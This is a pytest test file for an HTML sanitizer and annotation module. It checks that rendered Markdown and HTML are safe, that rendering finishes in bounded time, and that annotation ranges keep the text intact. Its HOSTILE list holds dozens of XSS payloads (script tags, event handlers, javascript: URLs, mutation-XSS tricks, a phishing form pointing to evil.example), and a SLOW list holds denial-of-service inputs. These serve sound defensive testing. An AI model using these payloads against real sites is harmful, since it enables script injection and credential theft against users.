"""The one maker of HTML: what comes out is safe, and holds the very text that annotations are anchored in."""

import html as entities
import time
from pathlib import Path

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from briefings import markup
from briefings.markup import ATTRIBUTES, SCHEMES, TAGS, Limits, Mark, MarkupError, annotate, plain_text, sanitize
from tests import house

LIMITS = Limits(200_000, 20)
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed">x</p>',
    '<p id="top" class="range" name="x">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:123">x</a>',
    '<a href="javascript:123">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/admin/logout/">x</a>',
    '<a href="#top">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "![x](https://evil.example/pixel.gif)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<details open ontoggle=alert(1)>x</details>",
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    '<a href="https://x.example" target="_blank" onclick="alert(1)" rel="x">x</a>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script>",
    '<button popovertarget="x">x</button>',
    '<span class="range" data-note="a-1">x</span>',
    '"><script>alert(1)</script>',
    "`<script>`\n\n    <script>alert(1)</script>\n",
]  # fmt: skip


def is_safe(html: str) -> bool:
    """No element, attribute or scheme that is not on the list, as a parser sees it."""
    tree = lxml.html.fragment_fromstring(html, create_parent="div")
    for element in tree.iterdescendants():
        if not isinstance(element.tag, str) or element.tag not in TAGS:
            return False
        if not set(element.attrib) <= ATTRIBUTES.get(element.tag, set()) | ({"rel"} if element.tag == "a" else set()):
            return False
        if "href" in element.attrib and element.get("href", "").partition(":")[0].lower() not in SCHEMES:
            return False
    return True


def test_the_judge_can_say_no() -> None:
    unsafe = ["<img src=x>", '<p id="x">x</p>', '<a href="javascript:1">x</a>', '<a href="/x">x</a>', "<!-- x -->"]
    assert not [html for html in unsafe if is_safe(html)]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_comes_out_safe(source: str) -> None:
    assert is_safe(house.converted(source))


@pytest.mark.rendering
def test_all_of_it_at_once_comes_out_safe() -> None:
    html = markup.render("\n\n".join(HOSTILE), LIMITS)
    assert is_safe(html)
    assert "x</a>" in html


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_comes_out_safe(html: str) -> None:
    assert is_safe(sanitize(html))


@given(st.text(st.sampled_from("<>/\"'=& aps:;#xvoncrij!-[]()`*\n"), max_size=60))
def test_any_scribble_comes_out_safe_and_stays(scribble: str) -> None:
    once = sanitize(scribble)
    assert is_safe(once)
    assert sanitize(once) == once


@pytest.mark.rendering
def test_what_is_allowed_stays() -> None:
    source = "# One\n\n##### Five\n\n*a* **b** `c` [d](https://x.example)\n\n- e\n- f\n\n> g\n\n| h | i |\n|---|---|\n| j | k |\n"
    html = markup.render(source, LIMITS)
    for part in ("<h2>One</h2>", "<h4>Five</h4>", "<em>a</em>", "<strong>b</strong>", "<code>c</code>", "<li>e</li>"):
        assert part in html
    assert 'href="https://x.example"' in html
    assert "<td>j</td>" in html
    assert "<blockquote>" in html
    assert "<h1" not in html


@pytest.mark.rendering
def test_the_text_cannot_be_longer_than_the_limit() -> None:
    with pytest.raises(MarkupError, match="11 characters; the limit is 10"):
        markup.render("x" * 11, Limits(10, 5))


SLOW = [
    "[a" * 1500,
    "- " * 1000,
    "> " * 2000,
    "*a_" * 20_000,
    "`" * 50_000,
    "[" * 50_000,
    "<div>" * 3000,
    "![" * 20_000,
]


@pytest.mark.rendering
@pytest.mark.parametrize("source", SLOW, ids=lambda source: f"{source[:5].strip()}×{len(source)}")
def test_rendering_ends_in_time_whatever_is_written(source: str) -> None:
    """A text is rendered, or refused in words; the child that takes too long is ended."""
    before = time.monotonic()
    try:
        html = markup.render(source, Limits(200_000, 1.5))
        annotate(html, [])
        plain_text(html)
        assert is_safe(html)
    except MarkupError as error:
        assert "Look for" in str(error)
    assert time.monotonic() - before < 6


@pytest.mark.rendering
@pytest.mark.parametrize(("tag", "depth"), [("blockquote", 300), ("sub", 300), ("em", 3000), ("ul><li", 1000)])
def test_what_is_nested_too_deeply_is_refused_and_not_cut_short(tag: str, depth: int) -> None:
    with pytest.raises(MarkupError, match="nested too deeply|takes longer"):
        markup.render(f"<{tag}>" * depth + "x", LIMITS)


@pytest.mark.rendering
def test_what_is_nested_as_people_nest_is_rendered() -> None:
    html = markup.render("<blockquote>" * 40 + "x", LIMITS)
    assert plain_text(html) == "x"
    assert "x" in annotate(html, [])


@pytest.mark.rendering
def test_it_renders_wherever_the_process_stands(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert markup.render("*a*", LIMITS) == "<p><em>a</em></p>"


@pytest.mark.rendering
@pytest.mark.parametrize("code", [0, 1, 8, 0x0B, 0x0C, 0x1B, 0x7F, 0x85, 0xD800, 0xFFFE, 0xFFFF, 0x10FFFF])
def test_signs_that_no_document_may_hold_hurt_nothing(code: int) -> None:
    html = markup.render(f"One lamp{chr(code)}burns here.", LIMITS)
    text = plain_text(html)
    assert "burns here" in text
    place = text.index("burns")
    assert "burns" in annotate(html, [mark(1, place, place + 5)])


PARTS = (
    ("<p>One</p><p>Two</p>", "One\n\nTwo"),
    ("<p>One\ntwo<br>three</p>", "One two\nthree"),
    ("<ul><li>a</li><li>b</li></ul>", "a\nb"),
    ("<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></tbody></table>", "a\tb\nc\td"),
    ("<pre><code>a\n  b</code></pre><p>c</p>", "a\n  b\n\nc"),
    ("<blockquote>\n<p>a</p>\n</blockquote>\n<p>b</p>", "a\n\nb"),
    ("<p>a <em>b</em> &amp; &lt;c&gt;</p>", "a b & <c>"),
    ("", ""),
)  # fmt: skip


@pytest.mark.parametrize(("html", "text"), PARTS)
def test_the_plain_text_parts_blocks_items_and_cells(html: str, text: str) -> None:
    assert plain_text(html) == text


def mark(number: int, start: int, end: int, kind: str = "context") -> Mark:
    note = f'<aside class="note" id="n{number}" popover>A note with <b>words</b>.</aside>'
    return Mark(f"n{number}", number, kind, start, end, "context", note)


def stripped(html: str) -> str:
    """The HTML without what annotating added: notes, reference numbers; ranges lose their spans alone."""
    tree = lxml.html.fragment_fromstring(html, create_parent="div")
    for added in [*tree.iter("button"), *[e for e in tree.iter("div") if e.get("class") == "notes"]]:
        added.drop_tree()
    for wrapper in [*tree.iter("span"), *[e for e in tree.iter("div") if e.get("class") == "scroll"]]:
        if wrapper is not tree:
            wrapper.drop_tag()
    inner = "".join(lxml.html.tostring(child, encoding="unicode") for child in tree)
    return entities.escape(tree.text or "") + inner


def words_of(html: str, number: int) -> str:
    tree = lxml.html.fragment_fromstring(html, create_parent="div")
    for button in list(tree.iter("button")):
        button.drop_tree()
    return "".join(piece.text_content() for piece in tree.xpath(f"//span[@data-note='n{number}']"))


HTML = (
    "<h2>The quay</h2><p>The <em>quay of <strong>Vessen</strong></em> was mended &amp; painted.</p>"
    "<ul><li>One pile</li><li>Two piles</li></ul><table><tbody><tr><td>a</td><td>b</td></tr></tbody></table><p>End.</p>"
)


@pytest.mark.parametrize(
    "ranges",
    [
        [(0, 8)],
        [(14, 32)],
        [(10, 30), (20, 40)],
        [(10, 40), (20, 30)],
        [(10, 40), (10, 40)],
        [(10, 20), (20, 30)],
        [(0, 60)],
        [(0, 70), (5, 65), (30, 35), (34, 50)],
    ],
)
def test_overlapping_and_nested_ranges_keep_the_text(ranges: list[tuple[int, int]]) -> None:
    marks = [mark(number, *place) for number, place in enumerate(ranges, start=1)]
    found = annotate(HTML, marks)
    text = plain_text(HTML)
    assert plain_text(stripped(found)) == text
    for one in marks:
        marked = "".join(text[one.start : one.end].split())
        assert "".join(words_of(found, one.number).split()) == marked
        assert found.count(f'id="r-n{one.number}"') == 1
        assert found.count(f'popovertarget="n{one.number}"') == 1
        assert found.count(f'id="n{one.number}"') == 1


def test_a_note_stands_behind_the_block_that_holds_its_reference() -> None:
    found = annotate(HTML, [mark(1, 14, 18), mark(2, 50, 53)])
    assert found.index("</p>") < found.index('id="n1"') < found.index("<ul>")
    assert found.index("</ul>") < found.index('id="n2"')


def test_ids_are_each_once() -> None:
    tree = lxml.html.fragment_fromstring(annotate(HTML, [mark(1, 14, 18), mark(2, 16, 53)]), create_parent="div")
    ids = tree.xpath("//@id")
    assert len(ids) == len(set(ids))
    assert {"s-1", "p-1", "p-2"} <= set(ids)


def test_a_mark_outside_of_the_text_marks_nothing() -> None:
    assert "n1" not in annotate(HTML, [mark(1, 5000, 5010)])


def test_words_that_look_like_markup_stay_words() -> None:
    html = "<p>if a &lt; b &amp;&amp; c &gt; d</p>"
    found = annotate(html, [mark(1, 3, 12)])
    assert plain_text(stripped(found)) == "if a < b && c > d"


MARKDOWN = st.lists(
    st.sampled_from(
        [
            "One lamp burns.", "*two* **three** four", "- a\n- b *c*\n- d", "> quoted *words*\n> more", "## Head & tail",
            "| a | b |\n|---|---|\n| c | *d* |", "`code` and <b>tags</b>", "    pre\n     formatted", "1. x\n2. y",
            "line one\nline two", "a [link](https://x.example) b", "é 🗼 ü", "***", "a &amp; b < c",
        ]
    ),
    min_size=1,
    max_size=5,
)  # fmt: skip


@given(MARKDOWN, st.lists(st.tuples(st.integers(0, 80), st.integers(1, 40)), max_size=5))
@settings(max_examples=40)
def test_annotating_changes_no_word(blocks: list[str], places: list[tuple[int, int]]) -> None:
    html = house.converted("\n\n".join(blocks))
    text = plain_text(html)
    marks = [mark(n, start, start + length) for n, (start, length) in enumerate(places, start=1) if start < len(text)]
    found = annotate(html, marks)
    assert plain_text(stripped(found)) == text
    assert is_safe(html)
